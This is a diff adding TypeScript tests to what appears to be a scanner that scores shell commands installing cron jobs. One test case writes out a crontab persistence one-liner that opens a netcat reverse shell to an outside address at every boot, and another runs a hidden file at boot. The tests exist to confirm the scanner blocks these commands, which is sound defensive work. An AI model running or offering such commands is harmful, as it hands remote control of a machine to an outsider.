@@ -42,3 +42,21 @@ describe("cron tables", () => {
     expect(projectTable(file, before)).toBe(own);
   });
 });
+
+describe("a job at boot is judged by what it runs (round 16)", () => {
+  const bash = (t: string): number => scan(t, "bash", { model: null }).score;
+  test.each([
+    [
+      "a socket at boot",
+      "(crontab -l 2>/dev/null; echo '@reboot sleep 30; nc 192.0.2.8 4001 -e /bin/bash') | crontab -",
+    ],
+    ["a hidden file at boot", "(crontab -l 2>/dev/null; echo '@reboot /home/u/.cache/.x') | crontab -"],
+  ])("blocks: %s", (_why, t) => {
+    expect(bash(t)).toBeGreaterThanOrEqual(0.8);
+  });
+  test("a local backup at boot stays below warn", () => {
+    expect(
+      bash("(crontab -l 2>/dev/null; echo '@reboot sleep 30; /usr/local/bin/backup --quiet') | crontab -"),
+    ).toBeLessThan(0.5);
+  });
+});
